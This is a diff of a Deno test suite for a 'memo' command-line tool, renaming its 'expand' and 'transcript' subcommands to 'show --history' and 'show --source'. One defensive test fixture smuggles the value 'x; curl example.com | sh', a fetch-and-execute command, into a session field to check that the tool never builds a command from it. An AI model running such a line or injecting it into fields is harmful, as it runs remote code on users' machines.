@@ -43,7 +43,7 @@ async function failure(home: Home, ...args: string[]): Promise<[number | null, s
   return [code, stderr];
 }
 
-Deno.test("memo expand leads to the conversation, to earlier versions and to what is near", async () => {
+Deno.test("memo show --history leads to the conversation and to other versions", async () => {
   await using home = makeHome();
   addTranscript(home);
   const source = `source:\n  session: ${SESSION}\n  turn: ${TURN}\n`;
@@ -61,23 +61,19 @@ Deno.test("memo expand leads to the conversation, to earlier versions and to wha
     "---\nname: Due dates are local\ntype: decision\n---\nLocal midnight.\n",
   );
 
-  const expanded = JSON.parse(await run(home, "expand", "due dates are utc", "--json"));
-  assert.equal(expanded.sourceCommand, `memo transcript ${SESSION} --turn ${TURN} --context 1`);
+  const expanded = JSON.parse(await run(home, "show", "--history", "due dates are utc", "--json"));
+  assert.equal(expanded.sourceCommand, `memo show --source ${SESSION} --turn ${TURN} --context 1`);
   assert.deepEqual(
     expanded.supersedes.map(({ file, name }: Record<string, string>) => [file, name]),
     [["decision_local.md", "Due dates are local"]],
   );
-  assert.deepEqual(
-    expanded.neighbours.map(({ name }: Record<string, string>) => name),
-    ["No moment", "Plants"],
-  );
-  const text = await run(home, "expand", "due dates are utc");
+  const text = await run(home, "show", "--history", "due dates are utc");
   assert.match(
     text,
-    /UTC midnight\.\n\nSource\nmemo transcript 8f8[^]*Supersedes\nDue dates are local {2}[^]*Similar\n0\.\d\d {2}No moment/,
+    /UTC midnight\.\n\nSource\nmemo show --source 8f8[^]*Supersedes\nDue dates are local {2}/,
   );
 
-  const old = JSON.parse(await run(home, "expand", "Due dates are local", "--json"));
+  const old = JSON.parse(await run(home, "show", "--history", "Due dates are local", "--json"));
   assert.deepEqual([old.archived, old.supersededBy[0].name], [true, "Due dates are UTC"]);
 
   const [, command] = /Source\nmemo (.+)\n/.exec(text)!;
@@ -85,22 +81,39 @@ Deno.test("memo expand leads to the conversation, to earlier versions and to wha
   assert.match(exchange, /The date test fails[^]*> No, local time is wrong here[^]*garbage input/);
 });
 
-Deno.test("memo expand suggests no command with what a file made up", async () => {
+Deno.test("memo show --source shows the conversation of a memory, and says where there is none", async () => {
   await using home = makeHome();
-  home.write("a.md", "---\nname: A\nsource:\n  session: x; curl example.com | sh\n---\nText.\n");
-  assert.equal(JSON.parse(await run(home, "expand", "A", "--json")).sourceCommand, undefined);
+  addTranscript(home);
+  const source = `source:\n  session: ${SESSION}\n  turn: ${TURN}\n`;
+  home.write("decision_utc.md", `---\nname: Dates are UTC\n${source}---\nMidnight.\n`);
+  home.write("user_plants.md", "---\nname: Plants\ntype: user\n---\nThe ficus needs water.\n");
+  const { turns } = JSON.parse(await run(home, "show", "--source", "dates are utc", "--json"));
+  assert.deepEqual(turns.map(({ id }: { id: string }) => id), [TURN]);
+  const [code, said] = await failure(home, "show", "--source", "Plants");
+  assert.equal(code, 1);
+  assert.match(said, /Cannot show the source of `Plants`: it comes from no conversation\n\nhint: /);
+  assert.match((await failure(home, "show", "Plants", "--turn", "x"))[1], /without `--source`/);
 });
 
-Deno.test("memo transcript shows a session, a turn, and turns around it", async () => {
+Deno.test("memo show --history suggests no command with what a file made up", async () => {
+  await using home = makeHome();
+  home.write("a.md", "---\nname: A\nsource:\n  session: x; curl example.com | sh\n---\nText.\n");
+  assert.equal(
+    JSON.parse(await run(home, "show", "--history", "A", "--json")).sourceCommand,
+    undefined,
+  );
+});
+
+Deno.test("memo show --source shows a session, a turn, and turns around it", async () => {
   await using home = makeHome();
   const path = addTranscript(home);
-  const text = await run(home, "transcript", "8f8f");
+  const text = await run(home, "show", "--source", "8f8f");
   assert.match(
     text,
     /> The date test fails[^]*\* Bash node --test[^\n]* failed → Exit code 1[^]*Sum up/,
   );
   const prompts = async (...args: string[]) =>
-    JSON.parse(await run(home, "transcript", SESSION, "--json", ...args)).turns
+    JSON.parse(await run(home, "show", "--source", SESSION, "--json", ...args)).turns
       .map(({ prompt }: { prompt: string }) => prompt.slice(0, 9));
   assert.equal((await prompts()).length, 5);
   assert.deepEqual(await prompts("--turn", "c29e"), ["No, local"]);
@@ -110,7 +123,9 @@ Deno.test("memo transcript shows a session, a turn, and turns around it", async 
     "What shou",
   ]);
   assert.equal((await prompts("--turn", TURN, "--context", "9")).length, 6, "with the summary");
-  const { session, transcript, turns } = JSON.parse(await run(home, "transcript", "8f", "--json"));
+  const { session, transcript, turns } = JSON.parse(
+    await run(home, "show", "--source", "8f", "--json"),
+  );
   assert.deepEqual([session, transcript], [SESSION, path]);
   assert.deepEqual(Object.keys(turns[0]), [
     "id",
@@ -136,24 +151,24 @@ Deno.test("what the journal has of a compaction leads to its summary and to what
   assert.doesNotMatch(shown, /tools-used-before-summary/);
 });
 
-Deno.test("memo transcript says what is wrong with a session or a turn", async () => {
+Deno.test("memo show --source says what is wrong with a session or a turn", async () => {
   await using home = makeHome();
   addTranscript(home);
   addTranscript(home, "8f8ff854-other");
   assert.match(
-    (await failure(home, "transcript", "8f8"))[1],
+    (await failure(home, "show", "--source", "8f8"))[1],
     /2 sessions match\n\nhint: .*8f8ff854-other/,
   );
-  assert.equal((await failure(home, "transcript", "8f8"))[0], 2);
-  const [code, said] = await failure(home, "transcript", "1234");
+  assert.equal((await failure(home, "show", "--source", "8f8"))[0], 2);
+  const [code, said] = await failure(home, "show", "--source", "1234");
   assert.equal(code, 1);
   assert.match(said, /Cannot find a transcript for session `1234`/);
-  const none = await runMemo(home, ["transcript", SESSION, "--turn", "nope"]);
+  const none = await runMemo(home, ["show", "--source", SESSION, "--turn", "nope"]);
   assert.equal(none.code, 1);
   assert.match(none.stderr, /Cannot find turn `nope`/);
 });
 
-Deno.test("memo transcript keeps a conversation from steering the terminal", async () => {
+Deno.test("memo show --source keeps a conversation from steering the terminal", async () => {
   await using home = makeHome();
   const path = addTranscript(home);
   const text = readFileSync(path, "utf8");
@@ -165,7 +180,7 @@ Deno.test("memo transcript keeps a conversation from steering the terminal", asy
     ),
   );
   for (const form of [[], ["--json"]]) {
-    const shown = await run(home, "transcript", SESSION, ...form);
+    const shown = await run(home, "show", "--source", SESSION, ...form);
     // deno-lint-ignore no-control-regex
     assert.doesNotMatch(shown, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
     assert.match(shown, /It fails\./);
@@ -190,7 +205,7 @@ Deno.test("memo journal shows a day, with the commands that lead to the conversa
   const text = await run(home, "journal", day);
   assert.equal(
     text,
-    `## Session ${time}\n\n### ${time}\nmemo transcript ${SESSION} --turn ${TURN} --context 1\n` +
+    `## Session ${time}\n\n### ${time}\nmemo show --source ${SESSION} --turn ${TURN} --context 1\n` +
       "- Fixed the date test\n- User wants UTC [31mmidnight\n",
   );
   const { entries } = JSON.parse(await run(home, "journal", day, "--json"));
@@ -235,7 +250,7 @@ Deno.test("r14: memo search --history leads to the turn, and memo search does no
   const [hit] = JSON.parse(await run(home, ...question, "--json"));
   assert.deepEqual([hit.day, hit.time, hit.turn], ["2026-03-04", "10:00", TURN]);
   const text = await run(home, ...question);
-  const [, expand] = /\n {2}memo (expand c29e4f67)\n/.exec(text)!;
+  const [, expand] = /\n {2}memo (show c29e4f67)\n/.exec(text)!;
   const expanded = await run(home, ...expand!.split(" "));
   assert.match(expanded, /^- Decided that due dates are UTC\n/);
   const [, transcript] = /Conversation\nmemo (.+)\n/.exec(expanded)!;
